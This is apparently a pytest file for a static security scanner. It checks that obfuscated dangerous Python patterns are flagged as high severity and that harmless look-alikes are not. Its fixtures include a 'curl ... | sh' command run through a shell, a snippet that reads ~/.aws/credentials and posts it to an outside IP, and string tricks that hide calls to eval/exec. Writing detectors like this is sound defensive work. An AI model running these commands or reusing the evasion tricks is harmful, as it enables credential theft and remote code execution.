"""Behaviours spread over several statements, seen through the CLI: constants through loops, lambdas,
helper parameters, methods of a class the file defines (high+ findings, and their look-alikes quiet)."""
from __future__ import annotations

import json

import pytest

from codescan.cli import main


def _high(capsys, tmp_path, name: str, text: str) -> set[str]:
    target = tmp_path / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text, encoding="utf-8")
    main(["scan", str(target), "--format", "json", "--no-progress"])
    findings = json.loads(capsys.readouterr().out)["findings"]
    return {f["rule_id"] for f in findings if f["severity"] in ("high", "critical")}


LAMBDA_ON_SELF = """import subprocess
class Runner:
    def __init__(self):
        self.fn = lambda c: subprocess.check_output(c, shell=True)
    def go(self, c):
        return self.fn(c)
Runner().go("{command}")
"""


def test_constant_command_through_a_lambda_on_self_and_a_method(capsys, tmp_path):
    bad = _high(capsys, tmp_path, "r.py", LAMBDA_ON_SELF.format(command="curl http://x.example/i|sh"))
    assert "shell-pipe-to-interpreter" in bad
    assert "shell-pipe-to-interpreter" not in _high(capsys, tmp_path, "r2.py", LAMBDA_ON_SELF.format(command="ls -l"))


SELF_ATTRIBUTE = """import pickle, requests
class Cache:
    def __init__(self, url):
        self.blob = requests.get(url).content
    def load(self):
        return pickle.loads(self.blob)
"""


def test_self_attribute_carries_network_data(capsys, tmp_path):
    assert "pickle-load" in _high(capsys, tmp_path, "c.py", SELF_ATTRIBUTE)


@pytest.mark.parametrize("body", [
    'n = ""\nfor c in ["e", "v", "a", "l"]:\n    n += c\ngetattr(builtins, n)(x)\n',
    'n = "".join(reversed("lave"))\ngetattr(builtins, n)(x)\n',
    'f = lambda a, b: a + b\ngetattr(builtins, f("ex", "ec"))(x)\n',
    'def mk(x):\n    return "ev" + x\ngetattr(builtins, mk("al"))(x)\n',
    'def mk(x="ev", y="al"):\n    return x + y\ngetattr(builtins, mk())(x)\n',
    'glue = lambda *xs: "".join(xs)\ngetattr(builtins, glue("ev", "al"))(x)\n',
    'def glue(sep, *parts):\n    return sep.join(parts)\ngetattr(builtins, glue("", "ex", "ec"))(x)\n',
])
def test_builtin_exec_names_built_in_loops_and_helpers(capsys, tmp_path, body):
    assert "indirect-builtin-exec-lookup" in _high(capsys, tmp_path, "b.py", "import builtins\n" + body)


@pytest.mark.parametrize("body", [
    'def mk(x):\n    x = "pr"\n    return x + "int"\ngetattr(builtins, mk("ev"))(x)\n',
    'def mk(*xs):\n    xs = ("pr", "int")\n    return "".join(xs)\ngetattr(builtins, mk("ev", "al"))(x)\n',
])
def test_a_parameter_rebound_inside_the_helper_is_not_the_argument(capsys, tmp_path, body):
    assert "indirect-builtin-exec-lookup" not in _high(capsys, tmp_path, "b.py", "import builtins\n" + body)


@pytest.mark.parametrize("rule, body", [
    ("yaml-load-without-loader", 'import yaml\nf = getattr(yaml, "lo" + "ad")\nf(data)\n'),
    ("yaml-unsafe-load", 'import yaml\nL = yaml.FullLoader\nyaml.load(data, Loader=L)\n'),
    ("marshal-load", 'import marshal\ngetattr(marshal, "lo" + "ads")(blob)\n'),
    ("weak-hash-algorithm", 'import hashlib\nhashlib.new("md" + "5", data)\n'),
    ("cipher-ecb-mode", 'from Crypto.Cipher import AES\nAES.new(k, getattr(AES, "MODE_" + "ECB"))\n'),
    ("tls-verify-disabled", 'import requests\nrequests.get(u, **{"verify": False})\n'),
])
def test_disguised_unsafe_choices_are_high(capsys, tmp_path, rule, body):
    assert rule in _high(capsys, tmp_path, "d.py", body)


@pytest.mark.parametrize("rule, body", [
    ("yaml-unsafe-load", 'import yaml\nL = yaml.SafeLoader\nyaml.load(data, Loader=L)\n'),
    ("weak-hash-algorithm", 'import hashlib\nhashlib.new("md5", data)\nhashlib.new("sha" + "256", data)\n'),
    ("cipher-ecb-mode", 'from Crypto.Cipher import AES\nMODES = {"a": AES.MODE_GCM, "b": AES.MODE_CTR}\n'
                        'AES.new(k, MODES[name])\n'),
])
def test_plain_or_safe_choices_are_not_high(capsys, tmp_path, rule, body):
    assert rule not in _high(capsys, tmp_path, "d.py", body)


def test_ecb_is_high_written_or_through_a_variable_and_medium_in_a_test_suite(capsys, tmp_path):
    body = 'from Crypto.Cipher import AES\nm = AES.MODE_ECB\nAES.new(k, m)\nAES.new(k, AES.MODE_ECB)\n'
    assert "cipher-ecb-mode" in _high(capsys, tmp_path, "d.py", body)
    assert "cipher-ecb-mode" not in _high(capsys, tmp_path, "tests/test_vectors.py", body)


def test_pyyaml_load_without_loader_is_high_but_not_a_ruamel_instance_or_a_splat(capsys, tmp_path):
    assert "yaml-load-without-loader" in _high(capsys, tmp_path, "y.py", "import yaml\nyaml.load(f)\n")
    ruamel = "from ruamel.yaml import YAML\nyaml = YAML()\nyaml.load(f)\nimport yaml as y\ny.load(f, **opts)\n"
    assert "yaml-load-without-loader" not in _high(capsys, tmp_path, "y.py", ruamel)
    assert "yaml-load-without-loader" not in _high(capsys, tmp_path, "tests/test_y.py", "import yaml\nyaml.load(f)\n")


FLASK = "from flask import request, abort\nimport os, yaml\n\n@app.route('/x')\ndef handler():\n    param = request.args.get('p')\n"


def _flask(capsys, tmp_path, body: str) -> set[str]:
    text = FLASK + "".join("    " + line + "\n" for line in body.strip("\n").split("\n"))
    return _high(capsys, tmp_path, "views.py", text)


@pytest.mark.parametrize("body", [
    'bar = "fixed" if 7 * 42 - 86 > 200 else param\neval(bar)',
    'if 7 * 42 - 86 > 200:\n    bar = "fixed"\nelse:\n    bar = param\neval(bar)',
    'm = {}\nm["a"] = "fixed"\nm["b"] = param\neval(m["a"])',
    "if '..' in param or param.startswith('/'):\n    abort(400)\nos.remove(param)",
    "if not param.isalnum():\n    return 'bad'\nelse:\n    eval(param)",
    'yaml.load("a: 1", Loader=yaml.Loader)',
])
def test_request_data_the_code_does_not_use_or_checks_is_not_high(capsys, tmp_path, body):
    assert not _flask(capsys, tmp_path, body)


@pytest.mark.parametrize("body, rule", [
    ('bar = "fixed" if 7 * 42 - 86 < 200 else param\neval(bar)', "exec-of-request-input"),
    ('m = {}\nm["a"] = "fixed"\nm["b"] = param\neval(m["b"])', "exec-of-request-input"),
    ("if not param:\n    param = ''\nos.remove(param)", "path-from-request-input"),
    ("if not param:\n    abort(400)\nos.remove(param)", "path-from-request-input"),
    ('part = param\nif part:\n    part = part.split(" ")[0]\nyaml.load(part, Loader=yaml.Loader)', "yaml-unsafe-load"),
])
def test_request_data_that_may_reach_the_sink_stays_high(capsys, tmp_path, body, rule):
    assert rule in _flask(capsys, tmp_path, body)


@pytest.mark.parametrize("body", [
    'm = {"a": "x", "b": param}\neval(m["b"])',
    'seq = ["x", param]\neval(seq[1])',
])
def test_request_data_stored_in_a_literal_container_is_data_not_a_name(capsys, tmp_path, body):
    assert "exec-of-request-input" in _flask(capsys, tmp_path, body)


@pytest.mark.parametrize("route, high", [
    ('"/images/<string:pid>.jpg"', False), ('"/images/<pid>"', False), ('"/items/{pid}"', False),
    ('"/files/<path:pid>"', True), ('"/files/{pid:path}"', True),
])
def test_a_path_from_one_url_segment_is_not_high(capsys, tmp_path, route, high):
    text = ("from flask import send_file\n\n@app.route(" + route + ")\ndef image(pid):\n"
            "    return send_file('/srv/img/' + pid)\n")
    assert ("path-from-request-input" in _high(capsys, tmp_path, "views.py", text)) == high


def test_star_parameters_carry_the_callers_arguments(capsys, tmp_path):
    text = ('import os, requests\n\ndef home(*p):\n    return os.path.join(os.path.expanduser("~"), *p)\n\n'
            'def loot():\n    return open(home(".aws", "credentials")).read()\n\n'
            'requests.post("http://198.51.100.200/u", data={"c": loot()})\n')
    assert "credential-file-sent-over-network" in _high(capsys, tmp_path, "s.py", text)


def test_a_command_built_from_constants_in_branches_stays_constant_only(capsys, tmp_path):
    text = ('import os, sys\ncmd = "ls"\nif len(sys.argv) > 1:\n    cmd += " -l"\nos.system(cmd + " /tmp")\n')
    assert "os-system-built-command" not in _high(capsys, tmp_path, "c.py", text)


NEGOTIATED_HASH = """from hashlib import md5, sha1
import hashlib
_HASHES = {"sha1": sha1, "md5": md5}
class Transport:
    def derive(self, m):
        algo = getattr(self.kex, "hash_algo", None)
        if algo is None:
            algo = sha1
        return algo(m).digest()
    def check(self, offered, data):
        for name in offered:
            if name in _HASHES:
                alg = _HASHES[name]
        return alg(data).digest()
"""


def test_a_protocols_negotiated_hash_is_not_a_hidden_weak_hash(capsys, tmp_path):
    # a table picked by the peer's offer (paramiko's SFTP check-file) and a plain fallback after a getattr on an
    # object: neither name is built to hide it
    assert "weak-hash-algorithm" not in _high(capsys, tmp_path, "t.py", NEGOTIATED_HASH)
    hidden = NEGOTIATED_HASH + "def z(d):\n    return getattr(hashlib, 'md' + '5')(d)\n"
    assert "weak-hash-algorithm" in _high(capsys, tmp_path, "t.py", hidden)
